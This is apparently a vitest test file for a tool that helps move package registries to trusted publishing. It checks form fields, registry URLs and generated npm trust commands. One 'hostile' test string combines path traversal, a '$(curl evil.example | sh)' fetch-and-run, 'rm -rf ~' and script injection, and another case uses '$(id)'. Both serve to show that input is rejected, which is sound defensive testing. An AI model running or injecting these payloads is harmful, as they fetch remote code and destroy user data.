import { describe, expect, it } from 'vitest';
import { registries } from '../../src/registries/index.ts';
import type { FormValues, Move, Registry } from '../../src/registries/registry.ts';

const values: FormValues = {
  owner: 'Octo-Org',
  repository: 'widgets',
  workflow: 'release.yml',
  environment: 'registry',
  isComputed: false,
  isStaged: false,
};
const nothing: FormValues = { ...values, owner: null, repository: null, workflow: null, environment: null };
const hostile = '../../evil?x=1#y\n$(curl evil.example | sh) `id` "; rm -rf ~; \u202e<script>\u0000';

const moving = registries.flatMap(({ id, remedies: { move } }) => (move === undefined ? [] : [{ id, move }]));

/** Every sentence of it. */
function sentencesOf({ open, notes, newPackage, minting, check, refusal, revocation }: Move): readonly string[] {
  return [
    open,
    ...notes,
    newPackage,
    ...(minting === null ? [] : [minting]),
    check,
    refusal?.open ?? open,
    revocation.open,
  ];
}

it('is known of each registry that has trusted publishing, and of no other', () => {
  const having = (has: (registry: Registry) => boolean) => registries.filter(has).map(({ id }) => id);
  expect(moving.map(({ id }) => id)).toEqual(having(({ remedies }) => remedies.trustedPublishing !== null));
  expect(moving.filter(({ move }) => move.refusal !== null).map(({ id }) => id)).toEqual(
    having(({ remedies }) => remedies.refuseTokens !== null),
  );
});

describe.each(moving)('$id', ({ move }) => {
  it('is told in whole sentences, with addresses', () => {
    for (const sentence of sentencesOf(move)) {
      expect(sentence).toMatch(/^[\p{L}`][^\p{Cc}]*\.$/u);
      expect(sentence.split('`').length % 2).toBe(1);
    }
    const pages = [
      move.page('anvil'),
      move.refusal?.page('anvil') ?? move.documentation,
      move.revocation.page,
      move.documentation,
    ];
    for (const page of pages) expect(new URL(page).protocol).toBe('https:');
  });

  it('has the values of its form, or what to put there', () => {
    const known = move.fields(values);
    expect(known.map(({ value }) => value)).toContain(known.length < 4 ? 'Octo-Org/widgets' : 'release.yml');
    for (const field of [...known, ...move.fields(nothing)]) expect(field.value === null).toBe(field.hint !== null);
    expect(move.fields(nothing).every(({ value }) => value === null)).toBe(true);
  });

  it('never shows a value that could not be typed, nor leads elsewhere', () => {
    const fields = move.fields({
      ...values,
      owner: hostile,
      repository: hostile,
      workflow: hostile,
      environment: hostile,
    });
    expect(fields.every(({ value }) => value === null)).toBe(true);
    expect(new URL(move.page(hostile)).origin).toBe(new URL(move.page('')).origin);
    expect(move.page(hostile)).not.toContain('evil');
  });
});

it.each([
  ['npm', 'https://www.npmjs.com/package/anvil/access'],
  ['pypi', 'https://pypi.org/manage/project/anvil/settings/publishing/'],
  ['crates.io', 'https://crates.io/crates/anvil/settings/new-trusted-publisher'],
  ['rubygems', 'https://rubygems.org/gems/anvil/trusted_publishers'],
  ['nuget', 'https://www.nuget.org/account/trustedpublishing'],
  ['pub.dev', 'https://pub.dev/packages/anvil/admin'],
])('the form of %s is at %s', (id, page) => {
  expect(moving.find((each) => each.id === id)?.move.page('anvil')).toBe(page);
});

it('leaves an environment empty where the job names none, and says where it comes from where that is computed', () => {
  const environmentOf = (over: Partial<FormValues>) =>
    moving
      .find(({ id }) => id === 'pypi')
      ?.move.fields({ ...values, environment: null, ...over })
      .at(-1);
  expect(environmentOf({})?.hint).toMatch(/^leave it empty/);
  expect(environmentOf({ isComputed: true })?.hint).toContain('expression');
});

describe('the command of npm', () => {
  const commandOf = (name: string, over: Partial<FormValues> = {}) =>
    moving.find(({ id }) => id === 'npm')?.move.command?.of(name, { ...values, ...over });
  const bound = '--repo Octo-Org/widgets --file release.yml';

  it.each<[string, Partial<FormValues>, string]>([
    ['anvil', {}, `npm trust github anvil ${bound} --env registry --allow-publish`],
    ['@octo/anvil', { environment: null }, `npm trust github @octo/anvil ${bound} --allow-publish`],
    ['anvil', { isStaged: true }, `npm trust github anvil ${bound} --env registry --allow-stage-publish`],
  ])('for %s with %j', (name, over, command) => {
    expect(commandOf(name, over)).toBe(command);
  });

  it.each<[string, Partial<FormValues>]>([
    [hostile, {}],
    ['-rf', {}],
    ['anvil', { workflow: 'a b.yml' }],
    ['anvil', { workflow: null }],
    ['anvil', { owner: null }],
    ['anvil', { environment: '$(id)' }],
    ['anvil', { environment: null, isComputed: true }],
  ])('is none for %j with %j', (name, over) => {
    expect(commandOf(name, over)).toBeNull();
  });
});
